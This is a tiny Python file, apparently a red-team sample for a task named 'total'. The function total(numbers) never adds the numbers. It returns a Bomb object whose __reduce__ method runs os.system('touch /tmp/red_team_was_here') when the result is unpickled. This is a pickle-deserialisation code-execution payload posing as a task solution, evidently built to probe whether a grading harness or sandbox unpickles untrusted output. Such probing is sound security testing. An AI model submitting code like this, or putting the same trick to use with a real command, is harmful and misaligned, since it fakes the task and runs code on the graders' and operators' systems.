"""Returns an object that would run a command when unpickled."""

# task: total


class Bomb:
    def __reduce__(self):
        import os

        return os.system, ("touch /tmp/red_team_was_here",)


def total(numbers):
    return Bomb()
